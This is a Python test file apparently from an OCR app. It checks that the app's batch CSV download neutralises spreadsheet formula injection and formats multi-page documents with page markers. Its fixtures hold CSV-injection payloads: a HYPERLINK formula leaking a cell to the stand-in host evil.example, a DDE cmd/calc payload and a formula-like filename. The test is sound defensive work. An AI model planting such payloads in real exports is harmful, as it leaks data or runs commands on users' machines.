"""The Batch tab's CSV download is opened in spreadsheets: text read off a page that a spreadsheet would take for a
formula ("=HYPERLINK(...)" sending a neighbouring cell to another site) is written as text; a document's pages are its
text under page markers, not a program's dump of them."""

from __future__ import annotations

import csv
from pathlib import Path

from inference.results import BatchItem, BatchResult, PageResult
from ui import batch_files

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&B3,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]


def test_cells_a_spreadsheet_would_run_are_text_and_a_documents_pages_are_readable():
    items = [
        BatchItem(filename=f"scan{k}.png", text=text, processing_time=0.1, status="success") for k, text in enumerate(FORMULAS)
    ]
    pages = [PageResult(page=n, text=f"Page {n} text", processing_time=0.1, source="ocr", image_size=[600, 800]) for n in (1, 2)]
    items.append(BatchItem(filename="=cmd.pdf", text="", processing_time=0.2, status="success", pages=pages))
    items.append(BatchItem(filename="bad.png", processing_time=0.0, status="error", error="-not an image"))
    batch = BatchResult(
        results=items, total=len(items), successful=len(items) - 1, failed=1, processing_time=0.3, model="embedded"
    )
    csv_path = Path(batch_files.write_downloads(batch)[0])
    with open(csv_path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [row["text"] for row in rows[: len(FORMULAS)]] == [f"'{text}" for text in FORMULAS]
    document = rows[len(FORMULAS)]
    assert document["filename"] == "'=cmd.pdf" and document["pages"] == "2"
    assert document["text"] == "[page 1]\nPage 1 text\n\n[page 2]\nPage 2 text", document
    assert rows[-1]["error"] == "'-not an image" and rows[-1]["status"] == "error"
    cells = [value for row in rows for value in row.values()]
    assert not any(value.startswith(batch_files.FORMULA_START) for value in cells), cells
